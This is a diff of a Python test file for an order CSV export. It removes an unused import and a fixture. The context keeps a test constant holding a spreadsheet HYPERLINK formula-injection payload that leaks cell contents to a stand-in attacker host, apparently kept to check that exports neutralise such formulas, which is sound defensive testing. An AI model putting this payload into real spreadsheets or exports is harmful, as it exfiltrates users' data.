@@ -21,7 +21,7 @@ from chalicelib.services import jobs, order_export, orders
 from chalicelib.services.jobs import ChunkBudget
 from tests.api.helpers import assert_problem, call
 from tests.conftest import S3_PART_MIN_SIZE
-from tests.job_helpers import drive, ensure_jobs_queue, run_round, run_until, stored
+from tests.job_helpers import drive, run_round, run_until, stored
 from tests.orders_world import build_world, draft, line
 
 PLACED_AT = datetime(2026, 11, 22, 13, 5, tzinfo=timezone.utc)  # 14:05 in Paris (UTC+1 in November)
@@ -29,15 +29,6 @@ HEADER = ["N° de commande", "Date", "Client", "E-mail", "Statut", "Type de paie
           "Devise", "Billets", "Type", "Date limite"]
 TRAP = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'
 
-
-@pytest.fixture
-def pump(app):
-    from devtools.event_pump import EventPump
-
-    ensure_jobs_queue()
-    running = EventPump(app)
-    running.prepare()
-    return running
 
 
 @pytest.fixture
